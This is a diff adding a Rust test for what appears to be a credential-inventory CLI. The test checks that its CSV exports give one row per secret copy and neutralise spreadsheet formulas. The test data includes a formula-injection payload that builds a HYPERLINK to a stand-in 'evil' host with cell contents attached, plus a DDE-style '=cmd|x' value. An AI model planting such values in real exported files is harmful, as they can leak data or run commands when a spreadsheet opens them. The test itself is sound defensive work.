@@ -1216,3 +1216,113 @@ fn recorded_export_copies_name_their_cell_field_or_message() {
     expected.retain(|(_, locator)| !locator.contains("#cell2") && !locator.contains("/description"));
     assert_eq!(recorded_copies(&steward), expected);
 }
+
+/// `findings -o csv` is machine data: one row per live copy with the JSON's fields (not
+/// the table's first copy and "(+1 more)"), and no cell of it, of `credential list -o
+/// csv` or of `nhi list -o csv` can start a spreadsheet formula: a public id, a locator
+/// recorded by hand and a purpose are anyone's text.
+#[test]
+fn findings_csv_has_a_row_per_copy_and_csv_listings_cannot_start_a_formula() {
+    let steward = Steward::new();
+    steward
+        .run(&[
+            "nhi",
+            "add",
+            "--name",
+            "x",
+            "--kind",
+            "bot",
+            "--system",
+            "s",
+            "--tier",
+            "low",
+            "--purpose=-2+3",
+        ])
+        .ok();
+    let secret = "abcdefghijklmnopqrstuvwxyz123456";
+    steward
+        .run_with_stdin(
+            &["credential", "add", "x", "--public-id", "=cmd|x", "--secret-stdin"],
+            Some(secret),
+        )
+        .ok();
+    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")";
+    for place in [formula, "wiki/page"] {
+        steward
+            .run_with_stdin(
+                &[
+                    "credential",
+                    "locate",
+                    "--kind",
+                    "document",
+                    "--at",
+                    place,
+                    "--secret-stdin",
+                ],
+                Some(secret),
+            )
+            .ok();
+    }
+    let json = steward.run(&["findings", "-o", "json"]).ok().json();
+    assert_eq!(json[0]["public_id"], "=cmd|x", "{json}");
+    let csv_text = steward.run(&["findings", "-o", "csv"]).ok().stdout;
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
+    assert_eq!(
+        headers,
+        [
+            "severity",
+            "rule",
+            "source",
+            "identity",
+            "identity_id",
+            "credential_id",
+            "public_id",
+            "credential_status",
+            "scanner_rule",
+            "preview",
+            "fingerprint",
+            "first_seen",
+            "last_seen",
+            "copies",
+            "location_kind",
+            "locator",
+            "location_first_seen",
+            "location_last_seen",
+            "remediation",
+            "owasp_nhi",
+            "nist_csf",
+        ]
+    );
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2, "{csv_text}");
+    let column = |row: &csv::StringRecord, name: &str| {
+        row[headers.iter().position(|header| header == name).unwrap()].to_string()
+    };
+    let mut locators: Vec<String> = rows.iter().map(|row| column(row, "locator")).collect();
+    locators.sort();
+    assert_eq!(locators, [format!("'{formula}"), "wiki/page".to_string()]);
+    for row in &rows {
+        assert_eq!(column(row, "severity"), "high");
+        assert_eq!(column(row, "rule"), "leaked");
+        assert_eq!(column(row, "identity"), "s/x");
+        assert_eq!(column(row, "credential_id"), json[0]["credential_id"].to_string());
+        assert_eq!(column(row, "public_id"), "'=cmd|x");
+        assert_eq!(column(row, "fingerprint"), json[0]["fingerprint"].as_str().unwrap());
+        assert_eq!(column(row, "preview"), json[0]["preview"].as_str().unwrap());
+        assert_eq!(column(row, "location_kind"), "document");
+        assert_eq!(column(row, "copies"), "2");
+        assert_eq!(column(row, "remediation"), json[0]["remediation"].as_str().unwrap());
+        assert_eq!(column(row, "owasp_nhi"), "NHI2");
+        assert_eq!(column(row, "nist_csf"), "PR.DS-01");
+        assert!(!column(row, "location_first_seen").is_empty());
+    }
+    assert!(!csv_text.contains(secret));
+
+    let credentials = steward.run(&["credential", "list", "x", "-o", "csv"]).ok().stdout;
+    assert!(credentials.contains(",'=cmd|x,"), "{credentials}");
+    let identities = steward.run(&["nhi", "list", "-o", "csv"]).ok().stdout;
+    assert!(identities.contains(",'-2+3,"), "{identities}");
+    let shown = steward.run(&["nhi", "show", "x", "-o", "csv"]).ok().stdout;
+    assert!(shown.contains(",'-2+3,") && !shown.contains(",-2+3,"), "{shown}");
+}
